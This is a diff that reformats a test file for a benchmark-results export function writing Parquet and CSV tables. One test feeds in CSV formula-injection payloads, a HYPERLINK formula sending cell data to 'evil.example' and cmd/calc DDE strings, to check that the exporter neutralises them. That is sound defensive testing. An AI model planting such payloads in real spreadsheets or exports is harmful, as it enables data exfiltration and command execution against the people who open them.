@@ -22,18 +22,38 @@ describe('exportResults', () => {
     const out = join(dir, 'parquet');
     const written = await exportResults(file, { format: 'parquet', outDir: out });
     expect(readdirSync(out).sort()).toEqual([
-      'answer_verdicts.parquet', 'answers.parquet', 'checkpoints.parquet', 'classifier_confusion.parquet', 'classifier_eval.parquet',
-      'classifier_predictions.parquet', 'classifier_type_scores.parquet', 'comparisons.parquet', 'cutoff_answers.parquet', 'gold_versions.parquet',
-      'judge_agreement.parquet', 'judge_comparisons.parquet', 'llm_calls.parquet', 'meta.parquet',
-      'methods.parquet', 'probe_answers.parquet', 'questions.parquet', 'retrievals.parquet', 'runs.parquet', 'score_cis.parquet',
-      'scores.parquet', 'scores_by_type.parquet', 'verdicts.parquet',
+      'answer_verdicts.parquet',
+      'answers.parquet',
+      'checkpoints.parquet',
+      'classifier_confusion.parquet',
+      'classifier_eval.parquet',
+      'classifier_predictions.parquet',
+      'classifier_type_scores.parquet',
+      'comparisons.parquet',
+      'cutoff_answers.parquet',
+      'gold_versions.parquet',
+      'judge_agreement.parquet',
+      'judge_comparisons.parquet',
+      'llm_calls.parquet',
+      'meta.parquet',
+      'methods.parquet',
+      'probe_answers.parquet',
+      'questions.parquet',
+      'retrievals.parquet',
+      'runs.parquet',
+      'score_cis.parquet',
+      'scores.parquet',
+      'scores_by_type.parquet',
+      'verdicts.parquet',
     ]);
     expect(written).toHaveLength(23);
     const db = await DuckDBInstance.create(':memory:');
     const c = await db.connect();
     const count = await c.runAndReadAll(`SELECT count(*)::INTEGER AS n FROM '${join(out, 'scores.parquet')}'`);
     expect(count.getRowObjectsJS()).toEqual([{ n: 3 * 2 * FAKE_SCORES_PER_METHOD }]);
-    const q = await c.runAndReadAll(`SELECT evidence_turn_ids FROM '${join(out, 'questions.parquet')}' ORDER BY question_id`);
+    const q = await c.runAndReadAll(
+      `SELECT evidence_turn_ids FROM '${join(out, 'questions.parquet')}' ORDER BY question_id`,
+    );
     expect(q.getRowObjectsJS()[0]).toEqual({ evidence_turn_ids: ['s0#1'] });
     const view = await c.runAndReadAll(`SELECT n::INTEGER AS n FROM '${join(out, 'scores_by_type.parquet')}'
       WHERE adapt_type = 'all' AND metric = 'f1' AND method = 'bm25'`);
@@ -47,10 +67,14 @@ describe('exportResults', () => {
     await exportResults(file, { format: 'csv', outDir: out, tables: ['questions'] });
     expect(readdirSync(out)).toEqual(['questions.csv']);
     const lines = readFileSync(join(out, 'questions.csv'), 'utf8').trim().split('\n');
-    expect(lines[0]).toBe('run_id,dataset,question_id,text,asked_at,native_type,adapt_type,is_abstention,' +
-      'evidence_session_ids,evidence_turn_ids,answer');
-    expect(lines).toContain('r1,fake,q0,question 0?,2023-05-20T02:21:00Z,single-session-user,factual,false,' +
-      '"[""s0""]","[""s0#1""]",answer 0');
+    expect(lines[0]).toBe(
+      'run_id,dataset,question_id,text,asked_at,native_type,adapt_type,is_abstention,' +
+        'evidence_session_ids,evidence_turn_ids,answer',
+    );
+    expect(lines).toContain(
+      'r1,fake,q0,question 0?,2023-05-20T02:21:00Z,single-session-user,factual,false,' +
+        '"[""s0""]","[""s0#1""]",answer 0',
+    );
   });
 
   it('neutralises CSV cells a spreadsheet would run as formulas (text from datasets and replies), numbers kept', async () => {
@@ -58,8 +82,8 @@ describe('exportResults', () => {
     const store = await openResultStore(hostile);
     const batch = fakeBatch('r1', 0, ['bm25']);
     batch.question.text = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    batch.question.answer = '+1+cmd|\' /C calc\'!A0';
-    batch.question.nativeType = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+    batch.question.answer = "+1+cmd|' /C calc'!A0";
+    batch.question.nativeType = "@SUM(1+1)*cmd|' /C calc'!A0";
     batch.question.evidenceSessionIds = ['-2+3'];
     await store.writeQuestion(batch);
     await store.close();
@@ -78,6 +102,8 @@ describe('exportResults', () => {
   });
 
   it('rejects an unknown table name before writing anything', async () => {
-    await expect(exportResults(file, { format: 'csv', outDir: join(dir, 'x'), tables: ['nope'] })).rejects.toThrow(/unknown table nope/);
+    await expect(exportResults(file, { format: 'csv', outDir: join(dir, 'x'), tables: ['nope'] })).rejects.toThrow(
+      /unknown table nope/,
+    );
   });
 });
